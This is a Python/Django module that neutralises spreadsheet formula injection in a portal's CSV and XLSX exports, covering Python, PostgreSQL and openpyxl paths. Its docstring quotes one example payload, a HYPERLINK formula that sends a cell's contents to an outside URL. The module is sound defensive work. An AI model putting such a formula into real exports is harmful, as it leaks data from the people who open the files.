"""Spreadsheet formula injection (OWASP « CSV injection »): one rule for every writer.

A spreadsheet evaluates a cell whose text starts with `=`, `+`, `-` or `@` (and, in some
programs, with a tab or a carriage return) as a formula: a title typed by a lead such as
`=HYPERLINK("http://…?d="&B2;"Voir")` would run on the agent's machine when the export
is opened. Every writer of the portal neutralises text from the same list
`CARACTERES_FORMULE`:

- CSV (back-office, API Python path, open data): `neutraliser` prefixes such a text with
  an apostrophe, the OWASP recommendation; the value stays readable (`'+33 4 75 …`,
  `'-12,5 %`) and spreadsheets take it as text;
- CSV written by PostgreSQL (`COPY`, api.copie): `NeutraliserSQL` does the same in SQL,
  its pattern generated from the same list, so both paths write the same file;
- XLSX: `cellule_xlsx` writes text cells as text (never as a formula) and marks the
  dangerous ones « quote prefix », the spreadsheet's own apostrophe: they display
  unchanged and stay text even when edited. Numbers and dates keep their type.

Only text is neutralised: numbers, dates and booleans pass unchanged.
"""

from django.db.models import Case, Func, TextField, Value, When
from django.db.models.expressions import Col
from django.db.models.functions import Concat, Left
from django.db.models.lookups import In
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

CARACTERES_FORMULE = ("=", "+", "-", "@", "\t", "\r")
PREFIXE = "'"


def est_formule(texte: str) -> bool:
    """True when a spreadsheet could read `texte` as a formula."""
    return texte[:1] in CARACTERES_FORMULE


def neutraliser(valeur):
    """`valeur` made safe for a CSV cell: a dangerous text gets the « ' » prefix; any
    other value (other text, numbers, dates, None) is returned unchanged."""
    if isinstance(valeur, str) and est_formule(valeur):
        return PREFIXE + valeur
    return valeur


def _classe_regex() -> str:
    # A bracket expression of PostgreSQL's regular expressions: « \ », « ] », « ^ » and
    # « - » are escaped; tab and carriage return are written as themselves.
    return "".join("\\" + c if c in "\\]^-" else c for c in CARACTERES_FORMULE)


MOTIF_SQL = f"^([{_classe_regex()}])"


class NeutraliserSQL(Func):
    """`neutraliser` as a SQL expression of text (NULL stays NULL).

    PostgreSQL, on a column: `CASE WHEN x ~ '^([=+\\-@\\t\\r])' THEN '''' || x ELSE x END`
    (a regular expression match: a few tens of nanoseconds a value); on any other
    expression (an aggregate subquery), `regexp_replace(x, …, '''\\1')`, which evaluates
    it once per row. Elsewhere a CASE on the first character."""

    output_field = TextField()
    arity = 1

    def as_postgresql(self, compiler, connection, **extra_context):
        expression = self.source_expressions[0]
        sql, params = compiler.compile(expression)
        texte = f"({sql})::text"
        if isinstance(expression, Col):
            return (
                f"CASE WHEN {texte} ~ %s THEN %s || {texte} ELSE {texte} END",
                [*params, MOTIF_SQL, PREFIXE, *params, *params],
            )
        return f"regexp_replace({texte}, %s, %s)", [*params, MOTIF_SQL, PREFIXE + "\\1"]

    def as_sql(self, compiler, connection, **extra_context):
        expression = self.source_expressions[0]
        cas = Case(
            When(
                In(Left(expression, 1), list(CARACTERES_FORMULE)),
                then=Concat(Value(PREFIXE), expression, output_field=TextField()),
            ),
            default=expression,
            output_field=TextField(),
        )
        return compiler.compile(cas.resolve_expression(compiler.query))


def cellule_xlsx(feuille, valeur):
    """The write-only cell of `valeur`: text as text (characters XML cannot hold are
    dropped), a dangerous text « quote prefixed »; other values keep their type."""
    if not isinstance(valeur, str):
        return WriteOnlyCell(feuille, value=valeur)
    texte = ILLEGAL_CHARACTERS_RE.sub("", valeur)
    cellule = WriteOnlyCell(feuille, value=texte)
    cellule.data_type = "s"  # openpyxl makes any text starting with « = » a formula
    if est_formule(texte):
        cellule.quotePrefix = True
    return cellule


def texte_xlsx(cellule) -> None:
    """Make a cell of an ordinary (not write-only) worksheet holding text safe: text
    type, never a formula, « quote prefixed » when dangerous (same rule as cellule_xlsx)."""
    if isinstance(cellule.value, str):
        cellule.value = ILLEGAL_CHARACTERS_RE.sub("", cellule.value)
        cellule.data_type = "s"
        if est_formule(cellule.value):
            cellule.quotePrefix = True
